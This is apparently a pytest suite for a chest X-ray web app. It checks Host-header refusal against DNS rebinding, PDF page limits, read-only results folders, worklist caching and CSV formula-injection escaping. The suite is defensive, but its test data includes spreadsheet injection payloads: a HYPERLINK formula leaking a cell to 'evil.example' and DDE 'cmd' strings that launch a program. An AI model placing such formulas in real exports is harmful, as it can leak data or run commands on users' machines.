"""The web app against a foreign Host header (DNS rebinding), many-page PDF reports, a results folder that cannot be
written, and caching of the worklist (docs/RELIABILITY.md, "Round 3"). Flask's test client; no timing."""
from __future__ import annotations

import errno
import io
import threading
from pathlib import Path

import pytest
from support.data import NIH_PNG

from chestxray.results import ResultStore

EVIL = "evil.example"


@pytest.fixture
def app(make_app):
    return make_app()


@pytest.fixture
def client(app):
    return app.test_client()


def upload(client, **kwargs):
    return client.post("/api/predict", data={"file": (io.BytesIO(NIH_PNG.read_bytes()), "x.png")}, **kwargs)


def saved_id(client) -> str:
    response = upload(client)
    assert response.status_code == 200, response.get_json()
    return response.get_json()["id"]


# ---------------------------------------------------------------- Host header

@pytest.mark.parametrize("method, path", [("POST", "/api/predict"), ("DELETE", "/api/results/{rid}"),
                                          ("POST", "/results/{rid}/delete"), ("GET", "/results/{rid}"),
                                          ("GET", "/")])
def test_a_foreign_host_header_is_refused_before_the_view_runs(client, app, method, path):
    rid = saved_id(client)
    before = sorted(Path(app.config["RESULTS_DIR"]).iterdir())
    headers = {"Host": f"{EVIL}:5000", "Origin": f"http://{EVIL}:5000"}
    data = {"file": (io.BytesIO(NIH_PNG.read_bytes()), "x.png")} if method == "POST" else None
    response = client.open(path.format(rid=rid), method=method, headers=headers, data=data)
    assert response.status_code == 400
    assert EVIL not in response.get_data(as_text=True)
    assert client.get(f"/api/results/{rid}").status_code == 200, "nothing was deleted"
    assert sorted(Path(app.config["RESULTS_DIR"]).iterdir()) == before, "nothing saved or deleted"


@pytest.mark.parametrize("host", ["localhost", "localhost:5000", "127.0.0.1", "127.0.0.1:8080"])
def test_the_loopback_names_are_trusted_by_default_and_urls_use_them(client, host):
    response = upload(client, headers={"Host": host})
    assert response.status_code == 200
    assert response.get_json()["result"].startswith(f"http://{host}/results/")


def test_an_operator_lists_the_hosts_and_the_public_url_builds_absolute_urls(make_app):
    client = make_app(TRUSTED_HOSTS=["cxr.hospital.example"], PUBLIC_URL="https://cxr.hospital.example/").test_client()
    assert upload(client, headers={"Host": "localhost"}).status_code == 400
    doc = upload(client, headers={"Host": "cxr.hospital.example:5000"}).get_json()
    urls = [doc["image"], doc["report"], doc["result"], doc["heatmaps_npy"], *doc["heatmaps"].values()]
    assert all(url.startswith("https://cxr.hospital.example/results/") for url in urls), urls
    csv = client.get(f"/results.csv?ids={doc['id']}", headers={"Host": "cxr.hospital.example"}).get_data(as_text=True)
    assert f"https://cxr.hospital.example/results/{doc['id']}" in csv


def test_main_trusts_the_bound_address_and_the_listed_names():
    from main import get_args_parser, trusted_hosts

    parse = get_args_parser().parse_args
    assert trusted_hosts(parse([])) == ["localhost", "127.0.0.1"]
    assert trusted_hosts(parse(["--host", "10.1.2.3"])) == ["localhost", "127.0.0.1", "10.1.2.3"]
    assert trusted_hosts(parse(["--host", "0.0.0.0"])) == ["localhost", "127.0.0.1"]
    assert trusted_hosts(parse(["--trusted-hosts", "cxr.example, 10.1.2.3"])) == ["cxr.example", "10.1.2.3"]


# ---------------------------------------------------------------- PDF reports

def test_a_pdf_of_more_results_than_the_limit_is_refused_with_a_clear_message(make_app):
    client = make_app(MAX_REPORT_PAGES=2).test_client()
    ids = [saved_id(client) for _ in range(3)]
    response = client.get("/results/report.pdf?ids=" + ",".join(ids))
    assert response.status_code == 400 and "at most 2 results" in response.get_data(as_text=True)
    assert client.get("/results/report.pdf?ids=" + ",".join(ids[:2])).status_code == 200
    # Naming one result many times is one page, not many.
    assert client.get("/results/report.pdf?ids=" + ",".join([ids[0]] * 50)).status_code == 200


@pytest.mark.parametrize("path", ["/results/report.pdf?ids={rid}", "/results/{rid}/report.pdf"])
def test_pdf_rendering_waits_for_the_analysis_slots_and_healthz_does_not(make_app, path):
    app = make_app(MAX_ANALYSES=1, ANALYSIS_QUEUE=0)
    client = app.test_client()
    rid = saved_id(client)
    held, release = threading.Event(), threading.Event()

    def hold_the_only_slot() -> None:
        with app.extensions["analyses"].enter():
            held.set()
            release.wait(60)

    holder = threading.Thread(target=hold_the_only_slot)
    holder.start()
    try:
        assert held.wait(60)
        busy = client.get(path.format(rid=rid))
        assert busy.status_code == 503 and busy.headers["Retry-After"]
        assert client.get("/healthz").get_json()["status"] == "ok"
    finally:
        release.set()
        holder.join()
    done = client.get(path.format(rid=rid))
    assert done.status_code == 200 and done.data.startswith(b"%PDF")


# ---------------------------------------------------------------- a results folder that cannot be written

@pytest.mark.parametrize("code", [errno.EROFS, errno.EACCES])
def test_a_results_folder_that_cannot_be_written_answers_503_and_saved_results_stay_visible(client, code,
                                                                                            monkeypatch, caplog):
    rid = saved_id(client)

    def refuse(*args, **kwargs):
        raise OSError(code, "Read-only file system" if code == errno.EROFS else "Permission denied")

    monkeypatch.setattr(ResultStore, "save", refuse)
    monkeypatch.setattr(ResultStore, "delete", refuse)
    response = upload(client)
    assert response.status_code == 503 and "cannot be written" in response.get_json()["error"]
    assert response.headers["Retry-After"]
    page = client.post("/predict", data={"file": (io.BytesIO(NIH_PNG.read_bytes()), "x.png")})
    assert page.status_code == 303  # back to the upload page, the message flashed there
    assert "cannot be written" in client.get("/").get_data(as_text=True)
    assert client.delete(f"/api/results/{rid}").status_code == 503
    assert client.post(f"/results/{rid}/delete").status_code == 503
    assert client.get(f"/results/{rid}").status_code == 200, "saved results are still shown"
    assert client.get(f"/results/{rid}/image.png").status_code == 200
    assert not [r for r in caplog.records if r.exc_info], "one log line, no traceback"


# ---------------------------------------------------------------- caching

def test_the_worklist_is_never_cached(client):
    response = client.get("/worklist")
    assert response.status_code == 200 and response.headers["Cache-Control"] == "no-store"


# ---------------------------------------------------------------- CSV formula injection

FORMULAS = ['=HYPERLINK("evil.example?leak="&A1,"open")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("cell, written", [
    *((formula, "'" + formula) for formula in FORMULAS),
    ("-0.5", "-0.5"), ("+1", "+1"), ("0.123456", "0.123456"), ("chest.png", "chest.png"), (0.25, 0.25), (None, None),
])
def test_spreadsheet_cells_follow_owasps_rule(cell, written):
    from chestxray.fileio import spreadsheet_cell

    assert spreadsheet_cell(cell) == written


def test_the_batch_csv_writes_formula_like_file_names_as_text(client):
    import csv

    ids = [saved_id(client) for _ in FORMULAS[:4]]
    names = [f"{formula}.png" for formula in FORMULAS[:4]]
    names = [name.replace("/", "-") for name in names]  # a file name has no slash (the page shows the last part)
    response = client.post("/results.csv", data={"id": ids, "name": names, "error": [""] * 4})
    rows = list(csv.DictReader(io.StringIO(response.get_data(as_text=True))))
    assert [row["file"] for row in rows] == ["'" + name for name in names]
    assert all(not value.startswith(("=", "+", "@")) for row in rows for value in row.values())
    assert all(0 <= float(row["top_probability"]) <= 1 for row in rows), "numbers stay numbers"


def test_the_cli_csv_writes_formula_like_paths_as_text(tiny_checkpoint, tmp_path, monkeypatch, capsys):
    import csv

    import predictions

    monkeypatch.chdir(tmp_path)
    name = "=HYPERLINK(\"evil.example\",\"x\").png"
    (tmp_path / name).write_bytes(NIH_PNG.read_bytes())
    code = predictions.main(predictions.get_args_parser().parse_args(
        ["--checkpoint", str(tiny_checkpoint), "--device", "cpu", "--allow-untrusted", "--csv", "out.csv", name]))
    capsys.readouterr()
    assert code == 0
    rows = list(csv.DictReader(open(tmp_path / "out.csv", encoding="utf-8")))
    assert rows[0]["path"] == "'" + name
